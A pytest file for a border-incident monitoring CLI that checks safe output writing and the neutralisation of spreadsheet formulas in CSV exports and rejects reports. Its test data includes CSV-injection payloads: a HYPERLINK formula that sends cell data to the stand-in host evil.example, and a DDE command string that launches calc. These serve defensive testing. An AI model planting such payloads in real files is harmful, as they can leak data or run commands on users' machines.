"""What ``import --rejects`` and ``export --out`` may write: never the store or an input, whole or not at all.

Each test reproduces a defect of issue 14 against real stores and files in tmp_path.
"""
from __future__ import annotations

import csv
import os
import signal
import stat
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from border_monitor.io.readers import read_incidents
from border_monitor.io.rejects import read_report

from test_cli_import_export import fingerprint, good_rows, make_incidents, new_store, run, stored, write_csv


@pytest.fixture
def bad_csv(tmp_path) -> Path:
    rows = good_rows(20)
    rows[4][5] = "95.5"  # one latitude out of range
    return write_csv(tmp_path / "bad.csv", rows)


def _store_alias(kind: str, store: Path, tmp_path: Path) -> Path:
    if kind == "store":
        return store
    if kind == "wal":
        return store.with_name(store.name + "-wal")
    if kind == "shm":
        return store.with_name(store.name + "-shm")
    if kind == "relative":
        return Path(os.path.relpath(store))
    if kind == "dotted":
        return tmp_path / "sub" / ".." / store.name
    if kind == "hardlink":
        link = tmp_path / "other-name.csv"
        os.link(store, link)
        return link
    link = tmp_path / "link.csv"
    link.symlink_to(store)
    return link


@pytest.mark.parametrize("kind", ["store", "wal", "shm", "relative", "dotted", "hardlink", "symlink"])
def test_rejects_report_never_replaces_the_store(tmp_path, capsys, bad_csv, kind):
    store = new_store(tmp_path / "S.gpkg", make_incidents(5, seed=2))
    (tmp_path / "sub").mkdir()
    target = _store_alias(kind, store, tmp_path)
    before = fingerprint(store)
    code, text, err = run(["import", bad_csv, "--store", store, "--rejects", target], capsys)
    assert code == 2 and text == ""
    assert f"Cannot write the rejects report {target}" in err and "store" in err
    assert "Traceback" not in err
    assert fingerprint(store) == before
    assert not store.with_name(store.name + "-wal").exists() or kind == "wal"


@pytest.mark.parametrize("kind", ["input", "hardlink", "symlink"])
def test_rejects_report_never_replaces_the_input(tmp_path, capsys, bad_csv, kind):
    store = new_store(tmp_path / "S.gpkg")
    original = bad_csv.read_bytes()
    target = {"input": bad_csv, "hardlink": tmp_path / "again.csv", "symlink": tmp_path / "link.csv"}[kind]
    if kind == "hardlink":
        os.link(bad_csv, target)
    elif kind == "symlink":
        target.symlink_to(bad_csv)
    code, _, err = run(["import", bad_csv, "--store", store, "--rejects", target], capsys)
    assert code == 2 and f"it is the input {bad_csv}" in err
    assert bad_csv.read_bytes() == original


def test_rejects_report_refuses_a_folder_a_missing_folder_and_a_pipe(tmp_path, capsys, bad_csv):
    store = new_store(tmp_path / "S.gpkg")
    before = fingerprint(store)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for target, words in [(tmp_path, "it is a folder"), (tmp_path / "none" / "r.csv", "does not exist"),
                          (fifo, "not a regular file"), (bad_csv / "r.csv", "is not a folder")]:
        code, _, err = run(["import", bad_csv, "--store", store, "--rejects", target], capsys)
        assert code == 2 and words in err and str(target) in err, err
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert fingerprint(store) == before


@pytest.mark.skipif(not Path("/proc/self").is_dir() or not Path("/sys/kernel").is_dir(), reason="Linux folders")
@pytest.mark.parametrize("folder", ["/proc/self", "/sys/kernel"])
def test_a_folder_that_cannot_be_written_is_a_sentence(tmp_path, capsys, bad_csv, folder):
    """/proc/self refuses in the access check; /sys/kernel passes it (for root) and refuses the file itself."""
    store = new_store(tmp_path / "S.gpkg")
    before = fingerprint(store)
    target = Path(folder) / "rejects.csv"
    code, _, err = run(["import", bad_csv, "--store", store, "--rejects", target], capsys)
    assert code == 2 and f"Cannot write the rejects report {target}" in err and "Traceback" not in err
    assert fingerprint(store) == before
    code, _, err = run(["export", "--store", store, "--out", Path(folder) / "out.csv"], capsys)
    assert code == 2 and "Cannot write the export file" in err


def test_the_report_is_complete_before_the_partial_import_commits(tmp_path, capsys):
    """Ids already in the store are refused by the store; with --partial the report that lists them
    is written before the good rows are committed (and is complete)."""
    rows = good_rows(12)
    store = new_store(tmp_path / "S.gpkg")
    assert run(["import", write_csv(tmp_path / "first.csv", rows[:3]), "--store", store], capsys)[0] == 0
    rows[7][3] = "invasion"
    source = write_csv(tmp_path / "again.csv", rows)
    report = tmp_path / "r.csv"
    code, text, err = run(["import", source, "--store", store, "--partial", "--rejects", report], capsys)
    assert code == 0, err
    assert "imported 8 incidents" in text
    fields = sorted((r.field for r in read_report(report)))
    assert fields.count("type") == 1 and len(fields) == 4
    assert len(stored(store)) == 11
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_outputs_get_the_users_normal_permissions(tmp_path, capsys, bad_csv):
    store = new_store(tmp_path / "S.gpkg", make_incidents(3))
    old = os.umask(0o027)
    try:
        run(["import", bad_csv, "--store", store, "--rejects", tmp_path / "r.csv"], capsys)
        run(["export", "--store", store, "--out", tmp_path / "e.csv"], capsys)
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "r.csv").stat().st_mode) == 0o640
    assert stat.S_IMODE((tmp_path / "e.csv").stat().st_mode) == 0o640


def test_gpkg_export_onto_an_existing_file_needs_overwrite_and_never_the_store(tmp_path, capsys):
    store = new_store(tmp_path / "S.gpkg", make_incidents(4))
    other = new_store(tmp_path / "other.gpkg", make_incidents(2, seed=9))
    before_other = fingerprint(other)
    code, _, err = run(["export", "--store", store, "--out", other], capsys)
    assert code == 2 and f"The export file {other} exists already" in err and "--overwrite" in err
    assert fingerprint(other) == before_other
    code, text, err = run(["export", "--store", store, "--out", other, "--overwrite"], capsys)
    assert code == 0, err
    assert sorted(str(i) for i in read_incidents(other).batch.id) == sorted(stored(store))
    before = fingerprint(store)
    link = tmp_path / "same.gpkg"
    os.link(store, link)
    for target in (store, link):
        code, _, err = run(["export", "--store", store, "--out", target, "--overwrite"], capsys)
        assert code == 2 and "it is the store" in err, err
    assert fingerprint(store) == before


def _limited_file_size(limit: int):
    def limits():
        import resource

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG), as on a full disk
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return limits


def test_a_full_disk_during_export_leaves_the_old_file_and_no_temporary(tmp_path):
    store = new_store(tmp_path / "S.gpkg", make_incidents(400))
    out = tmp_path / "out.csv"
    out.write_text("old export\n")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    result = subprocess.run([sys.executable, "-m", "border_monitor", "export", "--store", str(store), "--out", str(out)],
                            capture_output=True, text=True, preexec_fn=_limited_file_size(48_000), env=env,
                            timeout=300)
    assert result.returncode == 2, result.stderr
    assert f"Cannot write the export file {out}: File too large" in result.stderr
    assert "Traceback" not in result.stderr
    assert out.read_text() == "old export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["S.gpkg", "out.csv"]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+48 22 500 00 00", "-5 persons seen", "@SUM(A1:A9)",
            "\tleading tab", "\rleading CR", "'=already quoted", "'plain quote", "a = b", "''-two quotes"]


def test_csv_export_neutralises_formulas_and_imports_them_back_unchanged(tmp_path, capsys):
    incidents = make_incidents(len(FORMULAS), seed=5)
    incidents = [replace(i, description=text, source=text[:20]) for i, text in zip(incidents, FORMULAS)]
    store = new_store(tmp_path / "S.gpkg", incidents)
    out = tmp_path / "out.csv"
    assert run(["export", "--store", store, "--out", out], capsys)[0] == 0
    with open(out, encoding="utf-8", newline="") as stream:
        rows = {r["id"]: r for r in csv.DictReader(stream)}
    for inc in incidents:
        cell = rows[str(inc.id)]["description"]
        if inc.description.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell == "'" + inc.description
        else:
            assert cell == inc.description
        assert not rows[str(inc.id)]["lon"].startswith("'") and not rows[str(inc.id)]["persons"].startswith("'")
    target = new_store(tmp_path / "T.gpkg")
    code, _, err = run(["import", out, "--store", target], capsys)
    assert code == 0, err
    back = stored(target)
    assert {k: (v.description, v.source) for k, v in back.items()} == {
        str(i.id): (i.description, i.source) for i in incidents}


def test_no_formula_guard_writes_cells_as_they_are(tmp_path, capsys):
    (inc,) = make_incidents(1)
    store = new_store(tmp_path / "S.gpkg", [replace(inc, description="=1+1")])
    out = tmp_path / "raw.csv"
    assert run(["export", "--store", store, "--out", out, "--no-formula-guard"], capsys)[0] == 0
    with open(out, encoding="utf-8", newline="") as stream:
        (row,) = csv.DictReader(stream)
    assert row["description"] == "=1+1"


def test_rejects_report_neutralises_the_values_it_echoes(tmp_path, capsys):
    rows = good_rows(3)
    rows[1][3] = "=cmd|' /C calc'!A0"  # an invalid type that is also a formula
    source = write_csv(tmp_path / "in.csv", rows)
    store = new_store(tmp_path / "S.gpkg")
    report = tmp_path / "r.csv"
    assert run(["import", source, "--store", store, "--rejects", report], capsys)[0] == 2
    with open(report, encoding="utf-8", newline="") as stream:
        (row,) = csv.DictReader(stream)
    assert row["value"] == "'=cmd|' /C calc'!A0"
    assert [r.value for r in read_report(report)] == ["=cmd|' /C calc'!A0"]
